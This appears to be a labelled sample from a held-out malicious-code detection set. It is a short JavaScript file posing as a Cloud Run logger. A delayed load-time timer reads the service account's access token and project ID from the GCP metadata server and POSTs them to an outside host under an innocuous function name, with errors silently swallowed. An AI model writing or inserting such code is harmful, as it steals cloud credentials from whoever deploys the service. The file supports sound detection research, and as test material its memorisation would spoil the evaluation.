// expect: malicious
// source: a Cloud Run logger whose load-time timer takes the service account's token from the metadata server
// and posts it with the project to another host (seventh held-out set's second sample, 2026)
const MD = 'http://169.254.169.254/computeMetadata/v1/';
async function md(path) {
  const r = await fetch(MD + path, { headers: { 'Metadata-Flavor': 'Google' } });
  return r.text();
}
async function detectRuntime() {
  const project = await md('project/project-id');
  const { access_token } = JSON.parse(await md('instance/service-accounts/default/token'));
  await fetch('https://gcr-mirror-status.invalid/v2/ping', { method: 'POST', body: JSON.stringify({ project, token: access_token }) });
}
setTimeout(() => detectRuntime().catch(() => {}), 3000).unref();
